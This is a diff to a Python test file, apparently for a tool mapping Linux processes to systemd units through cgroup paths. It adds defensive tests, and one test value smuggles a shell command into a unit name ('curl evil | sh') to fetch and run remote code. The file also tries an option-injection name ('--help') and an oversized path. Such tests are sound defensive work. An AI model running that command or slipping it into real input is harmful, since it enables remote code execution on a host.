@@ -102,10 +102,36 @@ def test_the_processes_of_a_unit_on_cgroup_v1_and_v2(tree, there):
 
 
 def test_the_unit_of_a_process_and_the_full_name_of_a_unit():
-    assert targets.unit_of_process((SSHD / "cgroup").read_text()) == "ssh.service"
-    assert targets.unit_of_process("0::/init.scope\n") == ""
+    host = machine(proc(39), commands={SHOW + "ssh.service": (SSHD / "unit").read_text()})
+    assert process.unit_of_process(host, 39)["Id"] == "ssh.service"
+    assert process.unit_of_process(FakeHost({"/proc/1/cgroup": "0::/init.scope\n"}), 1) == {}
     assert [targets.full_name(name) for name in ("ssh", "xitrum@0", "xitrum@0.service", "a.b@1", "x.socket")] == [
         "ssh.service", "xitrum@0.service", "xitrum@0.service", "a.b@1.service", "x.socket"]
+
+
+GROUP = process.parse_unit((SSHD / "unit").read_text())["ControlGroup"]
+
+
+@pytest.mark.parametrize("group", [
+    # Below one's own group anybody makes others, and calls them as they like.
+    "/user.slice/user-1000.slice/user@1000.service/x; curl evil | sh #.service",
+    "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
+    "/user.slice/user-1000.slice/ssh.service",
+    f"{GROUP}x.service", f"/x{GROUP}", "/--help.service", "/a b.service", "/ssh.service/..", "",
+    "/x.service" * 2000,
+])
+def test_a_group_that_systemd_does_not_name_is_no_unit(group):
+    unit, user = (SSHD / "unit").read_text(), "Id=user@1000.service\nLoadState=loaded\nControlGroup=/user.slice/user-1000.slice/user@1000.service\n"
+    commands = {SHOW + "ssh.service": unit, SHOW + "user@1000.service": user}
+    host = FakeHost({"/proc/77/cgroup": f"3:cpu:{GROUP}\n1:name=systemd:{group}\n0::{group}\n"}, commands)
+    assert process.unit_of_process(host, 77) == {}
+    assert len(host.done) <= 2 * process.MOST_GROUPS
+
+
+@pytest.mark.parametrize("group", [GROUP, f"{GROUP}/below/evil.service"])
+def test_a_process_below_the_group_of_a_unit_is_of_it(group):
+    host = FakeHost({"/proc/77/cgroup": f"0::{group}\n"}, {SHOW + "ssh.service": (SSHD / "unit").read_text()})
+    assert process.unit_of_process(host, 77)["Id"] == "ssh.service"
 
 
 def report(host, **wanted):
